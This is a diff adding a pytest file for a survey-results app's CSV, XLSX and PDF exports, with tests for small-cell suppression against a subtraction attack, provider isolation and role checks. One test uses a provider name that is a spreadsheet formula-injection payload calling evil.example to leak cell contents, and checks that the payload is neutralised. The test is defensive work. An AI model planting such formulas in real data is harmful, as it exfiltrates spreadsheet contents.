@@ -1,0 +1,309 @@
+"""Exports read back: CSV bytes, XLSX through openpyxl, the PDF through pdftotext.
+
+Expected figures are worked out by hand in comments. The issue's
+subtraction attack (Bro n = 4 beside Nordljus n = 6) is run against every
+export: neither provider's NKI may appear anywhere, the total (3.4) must.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import subprocess
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+
+from app.accounts.models import Role
+from app.analytics.exports import protected_cells, CellCounts
+from app.db import db_session
+from app.organisation.models import Provider
+
+from .conftest import login
+from .results_fixtures import add, build_results_world
+
+BOM = "\ufeff"
+needs_pdftotext = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils not installed")
+
+
+def signed_in(app, make_user, role=Role.ANALYST, provider_id=None, name=None, language="en"):
+    """A signed-in client reading `language` (English labels keep the row lookups stable; Swedish for decimal commas)."""
+    client = app.test_client()
+    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = language
+    username = make_user(role, name or role.value, provider_id=provider_id)
+    assert login(client, username).status_code == 303
+    return client
+
+
+def csv_lines(response) -> list[str]:
+    assert response.status_code == 200, response.status_code
+    assert response.mimetype == "text/csv"
+    text = response.get_data().decode("utf-8")
+    assert text.startswith(BOM)
+    return text[1:].split("\r\n")
+
+
+def workbook_of(response):
+    assert response.status_code == 200, response.status_code
+    return load_workbook(io.BytesIO(response.get_data()))
+
+
+def pdf_text(response) -> str:
+    assert response.status_code == 200, response.status_code
+    assert response.mimetype == "application/pdf"
+    done = subprocess.run(["pdftotext", "-layout", "-", "-"], input=response.get_data(), capture_output=True,
+                          check=True)
+    return done.stdout.decode("utf-8")
+
+
+def number_in(text: str, shown: str) -> bool:
+    """Whether `shown` ("5,0") stands in `text` as a number of its own (not inside 15,05)."""
+    return re.search(rf"(?<![\d,.]){re.escape(shown)}(?![\d,])", text) is not None
+
+
+def row_starting(lines: list[str], label: str) -> list[str]:
+    return next(line for line in lines if line.startswith(f'"{label}"')).split(";")
+
+
+# --- Tabell 1 and the table exports ------------------------------------------------------
+
+@pytest.fixture
+def tabell_1(app):
+    # Tabell 1 of seed 000: 5, 4.8, 5, missing, 5, missing.
+    names = ("A Ekbacken", "B Fyren", "C Granen", "D Hamnen", "E Ljuset", "F Måsen")
+    world = build_results_world(app, providers=names)
+    add(app, world, "A Ekbacken", {"a": 5, "b": 5}, times=5)
+    add(app, world, "B Fyren", {"a": 5, "b": 5}, times=4)
+    add(app, world, "B Fyren", {"a": 4, "b": 4})  # (4 x 5 + 4) / 5 = 4.8
+    add(app, world, "C Granen", {"a": 5, "b": 5}, times=5)
+    add(app, world, "E Ljuset", {"a": 5, "b": 5}, times=5)
+    return world
+
+
+@needs_pdftotext
+def test_tabell_1_in_csv_xlsx_and_pdf(app, make_user, tabell_1):
+    client = signed_in(app, make_user)
+    campaign = tabell_1.campaigns["2027"]
+
+    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv"))
+    assert lines[0].startswith('"Provider";"NKI";')
+    assert ";" in lines[1] and "," not in lines[1].split(";")[0]
+    # B Fyren: NKI 4,8 from 5 answers, 5 responses (the interval: sd of 5,5,5,5,4 = 0.447, t(4) = 2.776,
+    # 2.776 x 0.447 / sqrt(5) = 0.555: 4.245 .. 5.355 -> 4,2 .. 5,4).
+    assert row_starting(lines, "B Fyren")[1:6] == ["4,8", "4,2", "5,4", "5", "5"]
+    assert row_starting(lines, "D Hamnen")[1:6] == ["", "", "", "0", "0"]
+    # Mean over the four with a value: (5 + 4.8 + 5 + 5) / 4 = 4.95, shown half up as 5,0; from 4 values.
+    assert row_starting(lines, "Mean over groups with a value")[1:5] == ["5,0", "", "", "4"]
+    # All 20 answers pooled: (15 x 5 + 4 x 5 + 4) / 20 = 99 / 20 = 4.95 -> 5,0.
+    assert row_starting(lines, "All answers")[1] == "5,0"
+    # The note under the table says what ".." means, and k.
+    assert any("(..)" in line and "fewer than 5 answers" in line for line in lines[-4:]), lines[-4:]
+
+    book = workbook_of(client.get(f"/staff/results/{campaign}/tables/summary.xlsx"))
+    sheet = book.worksheets[0]
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2) if row[0].value}
+    fyren = rows["B Fyren"]
+    assert fyren[1].value == pytest.approx(4.8) and fyren[1].data_type == "n" and fyren[1].number_format == "0.0"
+    assert fyren[4].value == 5 and fyren[4].number_format == "0"
+    assert rows["Mean over groups with a value"][1].value == pytest.approx(5.0)
+
+    swedish = signed_in(app, make_user, name="svensk", language="sv")
+    text = pdf_text(swedish.get(f"/staff/results/{campaign}/report.pdf"))
+    assert "B Fyren" in text and number_in(text, "4,8") and number_in(text, "5,0")
+    assert "D Hamnen" in text
+    # A page per provider: B Fyren's question a, mean (4 x 5 + 4) / 5 = 4.8, 80 %... share positive 100 % (>= 4).
+    assert text.count("B Fyren") >= 3  # summary, rates, its own page
+
+
+def test_rates_and_question_tables_and_the_workbook(app, make_user, tabell_1):
+    client = signed_in(app, make_user)
+    campaign = tabell_1.campaigns["2027"]
+    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/question_a.csv"))
+    # Share positive of B Fyren's a: all five answers >= 4: 100 (per cent, a number in CSV).
+    fyren = row_starting(lines, "B Fyren")
+    assert fyren[1] == "5" and fyren[2] == "4,8" and "100" in fyren
+    assert "Share positive (%)" in lines[0]
+    rates = csv_lines(client.get(f"/staff/results/{campaign}/tables/rates.csv"))
+    assert rates[0].startswith('"Provider";"Handed out"')
+
+    book = workbook_of(client.get(f"/staff/results/{campaign}/tables.xlsx"))
+    # summary, rates, then a, b, y, gender (the free-text comment has no figures).
+    assert len(book.worksheets) == 6
+    assert book.worksheets[2].title.startswith("a ")
+    assert client.get(f"/staff/results/{campaign}/tables/question_comment.csv").status_code == 404
+    assert client.get(f"/staff/results/{campaign}/tables/nothing.xlsx").status_code == 404
+    assert client.get(f"/staff/results/{campaign}/tables/summary.csv?by=nonsense").status_code == 400
+    by_language = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv?by=language"))
+    assert by_language[1].startswith('"Svenska (sv)";5,0;')
+
+
+# --- The subtraction attack on every export ----------------------------------------------
+
+@pytest.fixture
+def attack(app):
+    world = build_results_world(app)
+    add(app, world, "Nordljus AB", {"a": 5, "b": 5, "gender": "woman"}, times=6)
+    add(app, world, "Bro Coachning", {"a": 1, "b": 1, "gender": "woman"}, times=4)
+    return world
+
+
+@needs_pdftotext
+def test_the_subtraction_attack_on_every_export(app, make_user, attack):
+    # Bro 4 answers of 1, Nordljus 6 of 5: both hidden (one hidden cell would be total minus the other);
+    # the total (6 x 5 + 4 x 1) / 10 = 3.4 is shown.
+    client = signed_in(app, make_user)
+    campaign = attack.campaigns["2027"]
+    for table in ("summary", "question_a", "question_b"):
+        lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/{table}.csv"))
+        for name in ("Nordljus AB", "Bro Coachning"):
+            assert set(row_starting(lines, name)[1:4]) == {'".."'}, (table, name)
+        total = row_starting(lines, "All answers")
+        # Summary: NKI 3,4 first; a question: n 10, then its mean 3,4 (b alike).
+        assert (total[1] if table == "summary" else total[1:3]) == ("3,4" if table == "summary" else ["10", "3,4"])
+        body = "\n".join(lines)
+        assert not number_in(body, "5,0") and not number_in(body, "1,0"), table
+
+    book = workbook_of(client.get(f"/staff/results/{campaign}/tables.xlsx"))
+    for number, sheet in enumerate(book.worksheets):
+        # Rates (sheet 2): no links were handed out, so the rate is not known; its complete/partial are hidden.
+        hidden_columns = slice(4, 6) if number == 1 else slice(1, 4)
+        for row in sheet.iter_rows(min_row=2):
+            if row[0].value in ("Nordljus AB", "Bro Coachning"):
+                assert all(cell.value == ".." and cell.data_type == "s" for cell in row[hidden_columns]), sheet.title
+    summary = {row[0].value: row for row in book.worksheets[0].iter_rows(min_row=2)}
+    assert summary["All answers"][1].value == pytest.approx(3.4)
+
+    swedish = signed_in(app, make_user, name="svensk", language="sv")
+    text = pdf_text(swedish.get(f"/staff/results/{campaign}/report.pdf"))
+    assert number_in(text, "3,4")
+    assert not number_in(text, "5,0") and not number_in(text, "1,0")
+
+    # The answers: leaving Bro's 4 out alone would make them the total minus Nordljus's 6 rows, so
+    # Nordljus's cell goes too: no row, 10 left out.
+    lines = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv"))
+    assert lines[1] == ""
+    assert any(line.startswith('"10 responses are left out') for line in lines)
+    assert "5" not in "".join(lines[1:2])
+
+
+# --- Anonymised answers ----------------------------------------------------------------------
+
+def test_answers_leave_out_a_cell_of_4_and_keep_a_cell_of_5(app, make_user):
+    world = build_results_world(app)
+    # Cells differ by the background answer: woman 5 (kept), man 4 (left out), other 1 (left out).
+    # Left out together 4 + 1 = 5 >= k in every grouping without gender; with gender each is alone.
+    add(app, world, "Nordljus AB", {"a": 4, "b": 5, "y": 1, "gender": "woman", "comment": "Bra"}, times=3)
+    add(app, world, "Nordljus AB", {"a": 2, "b": "dk", "y": 0, "gender": "woman"}, times=2)
+    add(app, world, "Nordljus AB", {"a": 3, "gender": "man"}, times=4)
+    add(app, world, "Nordljus AB", {"a": 1, "gender": "other"})
+    campaign = world.campaigns["2027"]
+    client = signed_in(app, make_user)
+    lines = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv"))
+    assert lines[0] == '"Provider";"Programme";"Language answered in";"Channel";"Month";"Status";"a";"b";"y";"gender"'
+    rows = lines[1:6]
+    # Sorted by values: the two (2, dont_know, 0) rows before the three (4, 5, 1) rows.
+    assert rows == ['"Nordljus AB";"JPG";"sv";"sms";"2027-03";"complete";2;"dont_know";0;"woman"'] * 2 + \
+                   ['"Nordljus AB";"JPG";"sv";"sms";"2027-03";"complete";4;5;1;"woman"'] * 3
+    assert lines[6] == ""
+    assert lines[7].startswith('"5 responses are left out')
+    assert any("Free-text answers are not included" in line for line in lines)
+
+    # An analyst asking for text gets none; an administrator gets the comment column.
+    assert "comment" not in csv_lines(client.get(f"/staff/results/{campaign}/answers.csv?text=1"))[0]
+    admin = signed_in(app, make_user, Role.ADMIN, name="admin")
+    with_text = csv_lines(admin.get(f"/staff/results/{campaign}/answers.csv?text=1"))
+    assert with_text[0].endswith('"gender";"comment"')
+    assert sum(line.endswith('"woman";"Bra"') for line in with_text) == 3
+
+    book = workbook_of(client.get(f"/staff/results/{campaign}/answers.xlsx"))
+    sheet = book.worksheets[0]
+    first = [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
+    assert [c.value for c in first] == ["Nordljus AB", "JPG", "sv", "sms", "2027-03", "complete", 2, "dont_know", 0,
+                                        "woman"]
+    assert first[6].data_type == "n" and first[7].data_type == "s"
+
+
+def test_secondary_protection_of_cells_by_hand():
+    # Two providers' cells (provider, programme, language, channel, month, gender); counts (responses, index).
+    march = date(2027, 3, 1)
+    cells = {
+        (1, 1, "sv", "sms", march, "woman"): CellCounts((9, 9)),
+        (1, 1, "sv", "sms", march, "man"): CellCounts((6, 6)),
+        (1, 1, "sv", "sms", march, "other"): CellCounts((2, 2)),   # primary: 2 < 5
+        (2, 1, "sv", "sms", march, "woman"): CellCounts((7, 7)),
+    }
+    # Alone, the 2 left out would be the total (24) minus the 22 rows shown, and provider 1's 17 minus its
+    # 15: the smallest kept cell with answers, provider 1's men (6), goes too: 8 left out in the total and in
+    # provider 1; "man" holds only its own 6 (left out whole), "woman" and provider 2 lose nothing. Stable.
+    assert protected_cells(cells, 5) == {(1, 1, "sv", "sms", march, "other"), (1, 1, "sv", "sms", march, "man")}
+    # The NKI's count alone can force it: two small cells make 3 + 2 = 5 responses left out, but only
+    # 1 + 1 = 2 of them answered an index question - the total NKI minus the shown rows would be their mean.
+    # The women (5 responses, no index answer) cannot help; the men (6, 6) go: index left out 2 + 6 = 8.
+    cells = {("p", 1, "sv", "sms", march, "man"): CellCounts((6, 6)),
+             ("p", 1, "sv", "sms", march, "woman"): CellCounts((5, 0)),
+             ("p", 1, "sv", "sms", march, "other"): CellCounts((3, 1)),
+             ("p", 1, "sv", "sms", march, None): CellCounts((2, 1))}
+    assert protected_cells(cells, 5) == {("p", 1, "sv", "sms", march, "other"), ("p", 1, "sv", "sms", march, None),
+                                         ("p", 1, "sv", "sms", march, "man")}
+
+
+# --- Provider isolation and formula-leading names -------------------------------------------
+
+@needs_pdftotext
+def test_a_provider_gets_its_own_figures_and_nothing_else(app, make_user, attack):
+    add(app, attack, "Nordljus AB", {"a": 4, "b": 4, "gender": "man"}, programme="SO", times=5)
+    add(app, attack, "Bro Coachning", {"a": 2, "b": 2}, times=2)  # Bro: 6 answers, the complement is >= k
+    campaign = attack.campaigns["2027"]
+    nordljus, bro = attack.providers["Nordljus AB"], attack.providers["Bro Coachning"]
+    client = signed_in(app, make_user, Role.PROVIDER, provider_id=nordljus, name="nordljus")
+    base = f"/staff/results/{campaign}"
+    for path in (f"{base}/tables/summary.csv?by=provider", f"{base}/tables/rates.xlsx?by=provider",
+                 f"{base}/tables/summary.csv?provider={bro}", f"{base}/tables/question_a.xlsx?provider={bro}",
+                 f"{base}/tables.xlsx?provider={bro}", f"{base}/tables.xlsx?by=provider"):
+        assert client.get(path).status_code == 404, path
+    for path in (f"{base}/answers.csv", f"{base}/answers.xlsx"):
+        assert client.get(path).status_code == 403, path
+    # Its own table by programme: JPG 6 answers of 5 -> 5,0; SO 5 answers of 4 -> 4,0.
+    lines = csv_lines(client.get(f"{base}/tables/summary.csv"))
+    assert row_starting(lines, "JPG Jobbpeng grund")[1] == "5,0"
+    assert row_starting(lines, "SO Samhällsorientering")[1] == "4,0"
+    assert client.get(f"{base}/tables.xlsx?by=programme").status_code == 200
+    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "sv"
+    text = pdf_text(client.get(f"{base}/report.pdf"))
+    # Its own NKI: (6 x 5 + 5 x 4) / 11 = 50 / 11 = 4.545 -> 4,5; nothing of Bro's.
+    assert "Nordljus AB" in text and number_in(text, "4,5")
+    assert "Bro" not in text
+
+
+def test_formula_leading_provider_names_are_neutralised(app, make_user):
+    world = build_results_world(app, providers=('=HYPERLINK("http://evil.example/?d="&A2,"x")', "Bro Coachning"))
+    evil = next(name for name in world.providers if name.startswith("="))
+    add(app, world, evil, {"a": 5, "b": 5}, times=5)
+    add(app, world, "Bro Coachning", {"a": 3, "b": 3}, times=5)
+    client = signed_in(app, make_user)
+    campaign = world.campaigns["2027"]
+    lines = csv_lines(client.get(f"/staff/results/{campaign}/tables/summary.csv"))
+    assert any(line.startswith('"\'=HYPERLINK(') for line in lines)
+    answers = csv_lines(client.get(f"/staff/results/{campaign}/answers.csv"))
+    assert sum(line.startswith('"\'=HYPERLINK(') for line in answers) == 5
+    for path in ("tables/summary.xlsx", "answers.xlsx"):
+        sheet = workbook_of(client.get(f"/staff/results/{campaign}/{path}")).worksheets[0]
+        cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value and "HYPERLINK" in row[0].value]
+        assert cells and all(cell.value.startswith("'=") and cell.data_type == "s" for cell in cells), path
+    with app.app_context():
+        assert db_session.query(Provider).count() == 2
+
+
+@needs_pdftotext
+def test_the_report_prints_ethiopic_names_and_says_when_it_falls_back_to_english(app, make_user):
+    world = build_results_world(app, providers=("ሰላም ኣገልግሎት", "Bro Coachning"))
+    add(app, world, "ሰላም ኣገልግሎት", {"a": 4, "b": 4}, times=5)
+    add(app, world, "Bro Coachning", {"a": 2, "b": 2}, times=5)
+    campaign = world.campaigns["2027"]
+    tigrinya = pdf_text(signed_in(app, make_user, language="ti").get(f"/staff/results/{campaign}/report.pdf"))
+    assert "ሰላም ኣገልግሎት" in tigrinya and "This report is in English" not in tigrinya
+    # Arabic script needs shaping this installation lacks (report.py): English, and the title page says so.
+    arabic = pdf_text(signed_in(app, make_user, name="ar", language="ar").get(f"/staff/results/{campaign}/report.pdf"))
+    assert "This report is in English" in arabic and number_in(arabic, "4.0") and number_in(arabic, "2.0")
